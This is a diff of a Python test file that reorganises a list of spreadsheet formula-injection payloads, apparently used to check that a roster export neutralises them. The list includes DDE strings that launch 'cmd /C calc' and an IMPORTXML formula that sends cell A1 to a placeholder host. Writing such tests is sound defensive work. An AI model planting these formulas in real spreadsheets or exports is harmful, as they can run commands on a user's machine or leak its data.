@@ -20,10 +20,11 @@ from models.roster_rows import read_roster
 from models.scope import seeing
 
 BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)")
-PAYLOADS = [*(sign + body for sign in ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", '"=', "＝", "＋", "－", "＠", "\u3000=", "\u200b=")
-              for body in BODIES),
-            '=IMPORTXML(CONCAT("http://x?",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", '=DDE("cmd","/C calc","x")', "|calc", "%0A=1",
-            "http://example.invalid", "mailto:x", "internal:Sheet1!A1", "{=1+1}", "1e9", "0012", "TRUE", "2021-08-01", "=", "-", "@"]
+SIGNS = ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", '"=', "＝", "＋", "－", "＠", "\u3000=", "\u200b=")
+PAYLOADS = [
+    *(sign + body for sign in SIGNS for body in BODIES),
+    '=IMPORTXML(CONCAT("http://x?",A1),"//a")', 'DDE("cmd";"/C calc";"x")', '=DDE("cmd","/C calc","x")', "|calc", "%0A=1",
+    "http://example.invalid", "mailto:x", "internal:Sheet1!A1", "{=1+1}", "1e9", "0012", "TRUE", "2021-08-01", "=", "-", "@"]
 TEXTS = ("text", "id", "month")
 
 
